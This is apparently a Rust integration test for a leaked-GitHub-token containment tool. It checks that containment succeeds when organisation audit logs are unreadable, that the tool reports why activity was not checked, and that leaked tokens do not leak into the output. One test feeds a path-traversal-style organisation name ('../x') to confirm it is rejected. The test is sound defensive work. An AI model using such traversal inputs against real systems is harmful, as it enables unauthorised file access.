    let tasks_after = env.records().iter().filter(|r| r["kind"] == "task").count();
    assert_eq!(tasks_after, 2, "{}", String::from_utf8_lossy(&again.stdout));
    no_canary(&env, &leaked[4..], &[&o.stdout, &o.stderr]);
}

// issue 17, item 8: an organisation whose audit log cannot be read (not on
// GitHub Enterprise Cloud: 404; cordon's token not an owner's: 403; no
// organisation named) leaves containment done and says why nothing was checked.
#[test]
fn activity_not_checked_never_blocks_containment() {
    let (env, key) = env_with_signer();
    let tag = unique("noaudit");
    let plain = format!("plain-{tag}");
    let guarded = format!("guarded-{tag}");
    let own = classic("ghp_", &format!("{tag}-cordon"));
    seed(&tag, &own, json!({"login": "cordon-bot"}));
    let leaked = classic("ghp_", &tag);
    seed(&tag, &leaked, json!({}));
    admin(
        "/audit-orgs",
        json!({"tag": tag, "org": guarded, "owners": ["someone-else"]}),
    );
    let o = respond_token(
        &env,
        &key,
        &own,
        &leaked,
        &["--json", "--github-org", &plain, "--github-org", &guarded],
    );
    code(&o, 0);
    let v = json_of(&o);
    let row = &v["findings"][0];
    assert_eq!(row["status"], "contained", "{v:#}");
    assert!(row["dead_after_ms"].is_u64(), "{v:#}");
    let a = row["activity"].as_array().unwrap();
    assert_eq!(a.len(), 2, "{v:#}");
    let why = a[0]["not_checked"].as_str().unwrap();
    assert!(
        a[0]["org"] == plain.as_str() && why.contains("404") && why.contains("Enterprise Cloud"),
        "{v:#}"
    );
    assert!(a[0]["events"].is_null(), "{v:#}");
    let why = a[1]["not_checked"].as_str().unwrap();
    assert!(why.contains("403") && why.contains("owner"), "{v:#}");

    // Without an organisation, in words.
    let leaked2 = classic("ghp_", &format!("{tag}-2"));
    seed(&tag, &leaked2, json!({}));
    let o = respond_token(&env, &key, &own, &leaked2, &[]);
    code(&o, 0);
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(
        text.contains("finding 1: activity not checked: no organisation known")
            && text.contains("--github-org ORG"),
        "{text}"
    );
    // A malformed organisation is a usage error before anything.
    let bad = respond_token(&env, &key, &own, &leaked2, &["--github-org", "../x"]);
    code(&bad, 2);
}
